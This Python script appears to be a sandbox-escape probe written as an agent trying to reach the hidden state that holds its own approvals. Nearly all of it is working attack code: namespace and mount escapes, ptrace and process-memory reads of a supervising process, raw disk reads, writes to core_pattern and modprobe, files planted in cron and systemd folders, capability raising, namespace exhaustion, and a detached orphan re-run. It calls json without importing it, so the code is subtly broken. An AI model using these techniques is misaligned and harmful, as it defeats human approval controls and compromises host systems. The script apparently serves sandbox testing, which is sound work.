"""A program of an agent that wants to decide about its own approvals: tries each way to what is hidden from it, and answers with the
ways and how they ended. `DONE` is the answer of one that came through."""

import ctypes
import errno
import glob
import os
import signal
import socket
import stat
import struct
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
NEW_NS, NEW_USER = 1 << 17, 1 << 28
BIND, REC, MOVE, PRIVATE, DETACH = 4096, 16384, 8192, 1 << 18, 2
answers = {}


def call(function, *arguments):
    if getattr(libc, function)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), "")


def raw(number, *arguments):
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    answer = libc.syscall(ctypes.c_long(number), *wide)
    if answer == -1:
        raise OSError(ctypes.get_errno(), "")
    return answer


def attempt(name, way):
    try:
        answers[name] = "DONE" if way() is not False else "nothing"
    except OSError as error:
        answers[name] = errno.errorcode.get(error.errno, str(error.errno))
    except Exception as error:
        answers[name] = f"BROKEN {error!r}"


def in_child(way):
    """Runs the attempt in a process of its own; returns whether it came through there."""
    ends, begins = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(begins, b"DONE" if way() is not False else b"nothing")
        except OSError as error:
            os.write(begins, errno.errorcode.get(error.errno, "?").encode())
        os._exit(0)
    os.close(begins)
    answer = os.read(ends, 64).decode()
    os.close(ends)
    os.waitpid(child, 0)
    if answer in ("DONE", "nothing"):
        return answer == "DONE"
    raise OSError(getattr(errno, answer, 0), answer)


def has_token(path):
    with open(path, "rb") as file:
        return b"C4N4RY" in file.read()


def any_of(paths, way):
    """Whether the way comes through for one of the paths; else the last error."""
    last, found = None, False
    for path in paths:
        try:
            found = way(path) or found
        except OSError as error:
            last = error
    if not found and last:
        raise last
    return found


def is_disk(path):
    try:
        return stat.S_ISBLK(os.stat(path).st_mode)
    except OSError:
        return False


def connect(path):
    line = socket.socket(socket.AF_UNIX)
    line.connect(path)
    return line.recv(6) == b"C4N4RY"


def namespaces(user=True):
    """New namespaces in which this process has all capabilities, if the kernel gives them."""
    me = (os.getuid(), os.getgid())
    call("unshare", NEW_NS | (NEW_USER if user else 0))
    if user:
        for file, text in (("setgroups", "deny"), ("uid_map", f"0 {me[0]} 1"), ("gid_map", f"0 {me[1]} 1")):
            try:
                with open(f"/proc/self/{file}", "w") as map:
                    map.write(text)
            except OSError:
                pass
    libc.mount(None, b"/", None, REC | PRIVATE, None)


def with_mounts(way, user=True):
    def inside():
        namespaces(user)
        return way()

    return lambda: in_child(inside)


def direct(prefix, board, state, work, socket_path, handle, terminal):
    token = os.path.join(state, "token")
    parent = os.path.dirname(state)

    def reads(path=token):
        return has_token(path)

    def on(name):
        return f"{prefix}{name}"

    # By its path, and by other names of the path.
    attempt(on("read"), reads)
    attempt(on("list"), lambda: os.listdir(state) != [])
    attempt(on("write"), lambda: open(os.path.join(state, "approved"), "w").close())
    attempt(on("plant_tokens"), lambda: open(os.path.join(state, "tokens.json"), "w").close())
    attempt(on("plant_folder"), lambda: os.makedirs(os.path.join(state, "service")))
    attempt(on("by_own_root"), lambda: reads("/proc/self/root" + token))
    attempt(on("by_link"), lambda: (os.symlink(token, f"{work}/l{os.getpid()}"), reads(f"{work}/l{os.getpid()}"))[1])
    attempt(on("hard_link"), lambda: os.link(token, f"{work}/h{os.getpid()}"))
    attempt(on("rename"), lambda: os.rename(state, state + ".old"))
    attempt(on("rename_parent"), lambda: os.rename(parent, parent + ".old"))
    attempt(on("remove"), lambda: os.rmdir(state))

    # By other processes of this user.
    every = [p for p in glob.glob("/proc/[0-9]*") if p != f"/proc/{os.getpid()}"]
    theirs = f"/proc/{board}"
    attempt(on("by_root_of_board"), lambda: reads(f"{theirs}/root{token}"))
    attempt(on("by_folder_of_board"), lambda: reads(f"{theirs}/cwd/../../../../../../..{token}"))
    attempt(on("by_root_of_any"), lambda: any_of(every, lambda p: reads(f"{p}/root{token}")))
    attempt(on("by_folder_of_any"), lambda: any_of(every, lambda p: reads(f"{p}/cwd/../../../../../../..{token}")))
    attempt(on("descriptors_of_board"), lambda: any_of(glob.glob(f"{theirs}/fd/*") or [f"{theirs}/fd/0"], reads))
    attempt(on("environment_of_board"), lambda: open(f"{theirs}/environ", "rb").read())
    attempt(on("memory_of_board"), lambda: open(f"{theirs}/mem", "rb").close())
    attempt(on("mounts_of_board"), lambda: raw(308, os.open(f"{theirs}/ns/mnt", os.O_RDONLY), 0))
    attempt(on("users_of_board"), lambda: raw(308, os.open(f"{theirs}/ns/user", os.O_RDONLY), 0))
    attempt(on("all_of_board"), lambda: raw(308, os.pidfd_open(board), NEW_USER | NEW_NS))
    attempt(on("trace_board"), lambda: raw(101, 16, board, 0, 0))
    attempt(on("seize_board"), lambda: raw(101, 0x4206, board, 0, 0))
    attempt(on("descriptor_of_board"), lambda: raw(438, os.pidfd_open(board), 0, 0))
    word, there = ctypes.create_string_buffer(8), ctypes.c_ulong * 2
    here, far = there(ctypes.addressof(word), 8), there(ctypes.addressof(word), 8)
    attempt(on("read_memory_of_board"), lambda: raw(310, board, here, 1, far, 1, 0))
    attempt(on("signal_board"), lambda: os.kill(board, 0))
    limits = there(0, 0)
    attempt(on("read_limit_of_board"), lambda: bool(raw(302, board, 7, 0, limits)))
    attempt(on("limit_board"), lambda: raw(302, board, 7, limits, 0))
    attempt(on("open_terminal"), lambda: os.open(terminal, os.O_RDWR | os.O_NOCTTY))
    consoles = [path for name in ("console", "tty[0-9]*", "ttyS[0-9]*", "hvc[0-9]*", "vcs*") for path in glob.glob("/dev/" + name)]
    attempt(on("see_a_console"), lambda: any(os.major(os.stat(path).st_rdev) != 1 for path in consoles))
    attempt(on("above_root"), lambda: reads("/.." + token))
    attempt(on("freeze"), lambda: open(next(iter(glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)), "/sys/fs/cgroup/x"), "w").close())

    def exhaust():
        """Leaves no namespace for others: each of these processes holds one."""
        ends, begins = os.pipe()
        children = []
        for _ in range(100):
            child = os.fork()
            children.append(child)
            if child == 0:
                try:
                    call("unshare", NEW_USER)
                except OSError as error:
                    os.write(begins, errno.errorcode[error.errno].encode() + b"\n")
                    os._exit(1)
                os.close(begins)
                while True:
                    signal.pause()
        os.close(begins)
        errors = b""
        while data := os.read(ends, 4096):
            errors += data
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        if errors:
            raise OSError(getattr(errno, errors.split()[0].decode()), "")

    attempt(on("exhaust_namespaces"), exhaust)

    # The socket.
    attempt(on("connect"), lambda: connect(socket_path))
    attempt(on("connect_by_root_of_board"), lambda: connect(f"{theirs}/root{socket_path}"))
    attempt(on("connect_by_root_of_any"), lambda: any_of(every, lambda p: connect(f"{p}/root{socket_path}")))
    attempt(on("connect_abstract"), lambda: connect("\0callboard-hiding-" + str(board)))

    # By mounts: in its own namespace, in one of its own mounts, and in one of its own users.
    attempt(on("unmount_here"), lambda: (call("umount2", state.encode(), DETACH), reads())[1])
    attempt(on("bind_here"), lambda: call("mount", parent.encode(), work.encode(), None, BIND, None))
    attempt(on("trace_tree_here"), lambda: has_token(f"/proc/self/fd/{raw(428, -100, parent.encode(), 1)}/{os.path.basename(state)}/token"))
    for user in (False, True):
        kind = "nested_" if user else ""
        path, up = state.encode(), parent.encode()

        def mounts(name, way):
            attempt(on(f"{kind}{name}"), with_mounts(way, user))

        def aside(source, flags, below):
            place = f"{work}/m{os.getpid()}"
            os.makedirs(place, exist_ok=True)
            call("mount", source, place.encode(), None, flags, None)
            return reads(f"{place}/{below}")

        name = os.path.basename(state)
        mounts("unmount", lambda: (call("umount2", path, 0), reads())[1])
        mounts("unmount_lazily", lambda: (call("umount2", path, DETACH), reads())[1])
        mounts("unmount_parent", lambda: (call("umount2", up, DETACH), reads())[1])
        mounts("bind_parent", lambda: aside(up, BIND, f"{name}/token"))
        mounts("bind_parent_with_all", lambda: aside(up, BIND | REC, f"{name}/token"))
        mounts("bind_root", lambda: aside(b"/", BIND, token.lstrip("/")))
        mounts("move", lambda: aside(path, MOVE, "token"))
        mounts("remount", lambda: (call("mount", None, path, None, 32 | BIND, None), open(state + "/x", "w"))[1])

        def overlay():
            place = f"{work}/o{os.getpid()}"
            os.makedirs(place, exist_ok=True)
            call("mount", b"overlay", place.encode(), b"overlay", 0, f"lowerdir={parent}:/usr".encode())
            return reads(f"{place}/{name}/token")

        mounts("overlay", overlay)

        def cloned():
            tree = raw(428, -100, up, 1)
            return has_token(f"/proc/self/fd/{tree}/{name}/token")

        mounts("clone_tree", cloned)

        def devices():
            for major, minor in ((254, 0), (259, 0), (8, 0), (7, 0), (1, 1)):
                os.mknod(f"{work}/d{os.getpid()}", stat.S_IFBLK | 0o600, os.makedev(major, minor))
                os.close(os.open(f"{work}/d{os.getpid()}", os.O_RDONLY))

        mounts("make_disk", devices)

        def by_handle():
            root = os.open(parent, os.O_RDONLY)
            buffer = ctypes.create_string_buffer(bytes.fromhex(handle))
            return has_token(f"/proc/self/fd/{raw(304, root, buffer, os.O_PATH | os.O_DIRECTORY)}/token")

        mounts("handle", by_handle)
        mounts("mounts_of_first", lambda: raw(308, os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))

    # What has something done outside.
    disks = [b for b in glob.glob("/dev/**", recursive=True) if not b.startswith("/dev/fd/") and is_disk(b)] or ["/dev/vda"]
    attempt(on("read_disk"), lambda: any_of(disks, lambda b: os.read(os.open(b, os.O_RDONLY), 1) != b""))
    attempt(on("core_pattern"), lambda: open("/proc/sys/kernel/core_pattern", "r+").close())
    attempt(on("modprobe"), lambda: open("/proc/sys/kernel/modprobe", "r+").close())
    attempt(on("sysrq"), lambda: open("/proc/sysrq-trigger", "w").close())
    attempt(on("uevent_helper"), lambda: any_of(glob.glob("/sys/kernel/uevent_helper") or ["/sys/kernel/x"],
                                               lambda p: open(p, "r+").close()))
    for folder in ("/etc/cron.d", "/etc/systemd/system", "/usr/bin", "/usr/local/bin", "/etc", "/lib/systemd/system"):
        attempt(on(f"plant_in_{folder.strip('/').replace('/', '_')}"), lambda: open(f"{folder}/callboard-attack", "w").close())
    attempt(on("memory_limit"), lambda: call("setrlimit", 5, there(1 << 63, 1 << 63)))
    attempt(on("become_capable"), lambda: raw(126, struct.pack("<II", 0x20080522, 0), struct.pack("<6I", *(1 << 21, 1 << 21, 0, 0, 0, 0))))


def elsewhere(work):
    """Runs it in a process that has left the session, the group and the environment of the program."""
    ends, begins = os.pipe()
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            os.environ.clear()
            libc.clearenv()
            answers.clear()
            work()
            with os.fdopen(begins, "w") as out:
                out.write(json.dumps(answers))
        os._exit(0)
    os.close(begins)
    os.waitpid(first, 0)
    with os.fdopen(ends) as out:
        return json.loads(out.read())



def attacks(given):
    arguments = [given[name] for name in ("board", "state", "work", "socket", "handle", "terminal")]
    far = elsewhere(lambda: direct("orphan_", *arguments))
    direct("", *arguments)
    return {**answers, **far}
